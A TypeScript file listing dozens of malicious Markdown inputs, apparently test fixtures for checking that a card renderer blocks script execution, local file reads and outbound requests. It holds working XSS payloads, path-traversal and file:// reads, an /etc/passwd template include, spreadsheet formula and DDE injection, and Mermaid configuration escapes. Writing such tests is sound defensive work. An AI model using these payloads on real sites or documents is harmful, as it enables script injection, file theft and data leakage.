/** One attempt of a stranger's Markdown to run something, to read a file of ours or to call home. */
export interface Attack {
  readonly name: string
  /** Stands in the answer of a card. `WEB` is an address that counts its visitors, `SECRET` the path of a file that must not be read, `RUN` JavaScript that tells on itself. */
  readonly markdown: string
}

/** Kept as data so that a new trick is a line. `RUN` holds neither quotes nor angle brackets. */
export const attacks: readonly Attack[] = [
  // Script
  {name: 'script element', markdown: '<script>RUN</script>'},
  {name: 'script element inside of a paragraph', markdown: 'text <script>RUN</script> text'},
  {name: 'script from elsewhere', markdown: '<script src="WEB/a.js"></script>'},
  {name: 'module script', markdown: '<script type="module">import "WEB/b.js"</script>'},
  {name: 'script with odd case and spaces', markdown: '<ScRiPt \n>RUN</sCrIpT >'},
  {name: 'script split by a comment', markdown: '<scr<!-- -->ipt>RUN</script>'},
  {name: 'nested script', markdown: '<scr<script>ipt>RUN</scr</script>ipt>'},
  {name: 'noscript breakout', markdown: '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>'},
  {name: 'template breakout', markdown: '<template><script>RUN</script></template>'},
  // Event handlers
  {name: 'img onerror', markdown: '<img src=x onerror=RUN>'},
  {name: 'img onerror quoted', markdown: '<img src="x" onerror="RUN">'},
  {name: 'img onload', markdown: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN">'},
  {name: 'details ontoggle', markdown: '<details open ontoggle=RUN><summary>s</summary>text</details>'},
  {name: 'body onload', markdown: '<body onload=RUN>text</body>'},
  {name: 'svg onload', markdown: '<svg onload=RUN></svg>'},
  {name: 'input autofocus onfocus', markdown: '<input autofocus onfocus=RUN>'},
  {name: 'video source onerror', markdown: '<video><source onerror="RUN"></video>'},
  {name: 'audio onerror', markdown: '<audio src=x onerror=RUN></audio>'},
  {name: 'marquee onstart', markdown: '<marquee onstart=RUN>text</marquee>'},
  {name: 'handler after a slash', markdown: '<img/src=x/onerror=RUN>'},
  {name: 'handler on an inline element', markdown: 'a <b onmouseover="RUN" style="position:fixed;inset:0">b</b>'},
  {name: 'animation handler', markdown: '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="RUN">b</b>'},
  // SVG and MathML
  {name: 'svg script', markdown: '<svg><script>RUN</script></svg>'},
  {
    name: 'svg foreignObject',
    markdown: '<svg><foreignObject><iframe srcdoc="&lt;script&gt;RUN&lt;/script&gt;"></iframe></foreignObject></svg>'
  },
  {name: 'svg use from elsewhere', markdown: '<svg><use href="WEB/x.svg#a"/></svg>'},
  {name: 'svg image from elsewhere', markdown: '<svg><image href="WEB/y.png"/></svg>'},
  {name: 'svg animate to javascript', markdown: '<svg><a><animate attributeName="href" values="javascript:RUN"/><text>x</text></a></svg>'},
  {name: 'mathml link', markdown: '<math><mtext><a href="javascript:RUN">x</a></mtext></math>'},
  {
    name: 'mathml and style mutation',
    markdown:
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;"></mglyph></table></mtext></math>'
  },
  {name: 'svg picture with a script', markdown: '![evil](evil.svg)'},
  {name: 'svg picture that loads', markdown: '![loads](loads.svg)'},
  // Links and addresses
  {name: 'javascript link', markdown: '[click](javascript:RUN)'},
  {name: 'javascript link with entities', markdown: '[click](&#106;avascript&colon;RUN)'},
  {name: 'javascript link with a tab', markdown: '<a href="java&#9;script:RUN">click</a>'},
  {name: 'vbscript link', markdown: '[click](vbscript:RUN)'},
  {name: 'data link', markdown: '[click](data:text/html,<script>RUN</script>)'},
  {name: 'javascript picture', markdown: '![x](javascript:RUN)'},
  {name: 'autolink', markdown: '<javascript:RUN>'},
  {name: 'link prefetch', markdown: '<link rel="prefetch" href="WEB/p"><link rel="stylesheet" href="WEB/s.css">'},
  {name: 'base', markdown: '<base href="WEB/base/">![x](y.png)'},
  {name: 'ping', markdown: '<a href="https://example.org" ping="WEB/ping">x</a>'},
  // Files
  {name: 'picture by file address', markdown: '![x](file://SECRET)'},
  {name: 'picture by absolute path', markdown: '![x](SECRET)'},
  {name: 'picture by climbing', markdown: '![x](../../../../../../../../../..SECRET)'},
  {name: 'picture by encoded climbing', markdown: '![x](..%2f..%2f..%2f..%2f..%2f..%2f..SECRET)'},
  {name: 'picture through a link in the folder', markdown: '![x](linked.png)'},
  {name: 'iframe of a file', markdown: '<iframe src="file://SECRET"></iframe>'},
  {name: 'object of a file', markdown: '<object data="file://SECRET" type="text/plain"></object>'},
  {name: 'embed of a file', markdown: '<embed src="file://SECRET">'},
  {name: 'wiki embed of a file', markdown: '![[SECRET]]'},
  {name: 'img element of a file', markdown: '<img src="file://SECRET">'},
  // Calling home
  {name: 'remote picture', markdown: '![x](WEB/pixel.png)'},
  {name: 'remote picture by element', markdown: '<img src="WEB/pixel2.png" srcset="WEB/pixel3.png 2x">'},
  {name: 'picture element', markdown: '<picture><source srcset="WEB/w.webp"><img src="WEB/pixel4.png"></picture>'},
  {name: 'remote video', markdown: '<video src="WEB/v.mp4" poster="WEB/v.png" autoplay></video>'},
  {name: 'iframe from elsewhere', markdown: '<iframe src="WEB/frame"></iframe>'},
  {name: 'iframe srcdoc', markdown: '<iframe srcdoc="<script>RUN</script>"></iframe>'},
  {name: 'object from elsewhere', markdown: '<object data="WEB/o.swf"></object>'},
  {name: 'meta refresh', markdown: '<meta http-equiv="refresh" content="0;url=WEB/meta">'},
  {name: 'form that posts itself', markdown: '<form action="WEB/form" id=f><button autofocus onfocus=f.submit()>x</button></form>'},
  {name: 'css import', markdown: '<style>@import "WEB/i.css";</style>'},
  {name: 'css url in a style attribute', markdown: '<div style="background:url(WEB/bg.png)">x</div>'},
  {
    name: 'css url in a table cell',
    markdown: '<table background="WEB/t.png"><tr><td background="WEB/td.png" style="list-style:url(WEB/li.png)">x</td></tr></table>'
  },
  {name: 'css font', markdown: '<style>@font-face{font-family:x;src:url(WEB/f.woff)}b{font-family:x}</style><b>b</b>'},
  {name: 'css that leaves its element', markdown: '</div></section><style>*{display:none}</style>'},
  // Templates, Anki, spreadsheets
  {name: 'liquid tag', markdown: '{% include "/etc/passwd" %} {{ "x" | append: page }}'},
  {name: 'liquid output', markdown: '{{ guide.cards | json }}'},
  {name: 'anki field', markdown: '{{Meta}} {{FrontSide}} {{#Reverse}}x{{/Reverse}}'},
  {name: 'anki sound', markdown: '[sound:SECRET] [sound:WEB/x.mp3]'},
  {name: 'anki latex', markdown: '[latex]\\input{SECRET}[/latex] [$]x[/$]'},
  {name: 'anki cloze', markdown: '{{c1::gap}} {{c2::other::hint}}'},
  {name: 'mathjax that runs', markdown: '\\(\\href{javascript:RUN}{x}\\) $\\href{javascript:RUN}{y}$'},
  {name: 'math with markup', markdown: '$$</script><script>RUN</script>$$'},
  {name: 'katex that loads', markdown: '$\\includegraphics{WEB/k.png}$ $\\htmlStyle{background:url(WEB/k2.png)}{x}$'},
  {name: 'code that closes its element', markdown: '```html\n</code></pre><script>RUN</script>\n```'},
  {name: 'code language that breaks out', markdown: '```"><img/src=x/onerror=RUN>\ncode\n```'},
  {name: 'alt that breaks out', markdown: '![" onerror="RUN](evil.svg "\' onload=\'RUN")'},
  {name: 'formula', markdown: '=HYPERLINK("WEB/leak?"&A1,"x")'},
  {name: 'formula with DDE', markdown: "+cmd|' /C calc'!A0"},
  // Diagrams
  {name: 'mermaid with a javascript link', markdown: '```mermaid\ngraph TD\nA-->B\nclick A href "javascript:RUN"\n```'},
  {name: 'mermaid that calls back', markdown: '```mermaid\ngraph TD\nA-->B\nclick A call RUN()\n```'},
  {name: 'mermaid with HTML in a label', markdown: '```mermaid\ngraph TD\nA["<img src=x onerror=RUN><b>x</b>"]-->B\n```'},
  {name: 'mermaid with a picture in a label', markdown: '```mermaid\ngraph TD\nA["<img src=WEB/m.png>"]-->B\n```'},
  {
    name: 'mermaid directive that loosens',
    markdown:
      '```mermaid\n%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true}}}%%\ngraph TD\nA["<script>RUN</script><iframe src=WEB/m></iframe>"]-->B\n```'
  },
  {
    name: 'mermaid front matter that loosens',
    markdown: '```mermaid\n---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\nA["<img src=x onerror=RUN>"]-->B\n```'
  },
  {
    name: 'mermaid with a style sheet',
    markdown: '```mermaid\n%%{init: {"themeCSS":"@import url(WEB/m.css);.node rect{fill:url(WEB/m2.svg)}"}}%%\ngraph TD\nA-->B\n```'
  },
  {
    name: 'mermaid theme that breaks out',
    markdown:
      '```mermaid\n%%{init: {"theme":"base","themeVariables":{"primaryColor":"red;}</style><script>RUN</script><style>@import \'WEB/m3.css\';"}}}%%\ngraph TD\nA-->B\n```'
  },
  {
    name: 'mermaid style with an address',
    markdown: '```mermaid\ngraph TD\nA-->B\nclassDef k fill:#f00,background-image:url(WEB/m4.png)\nclass A k\n```'
  },
  {name: 'mermaid with a picture as a node', markdown: '```mermaid\nflowchart TD\nA@{img: "WEB/m5.png", label: "x", w: 60, h: 60}\n```'},
  {
    name: 'mermaid sequence link',
    markdown:
      '```mermaid\nsequenceDiagram\nparticipant A\nlink A: x @ javascript:RUN\nlinks A: {"y": "javascript:RUN"}\nA->>A: <img src=x onerror=RUN>\n```'
  },
  // Last: it swallows the rest of the file, as it does in a browser.
  {name: 'script never closed', markdown: '<script>RUN'}
]
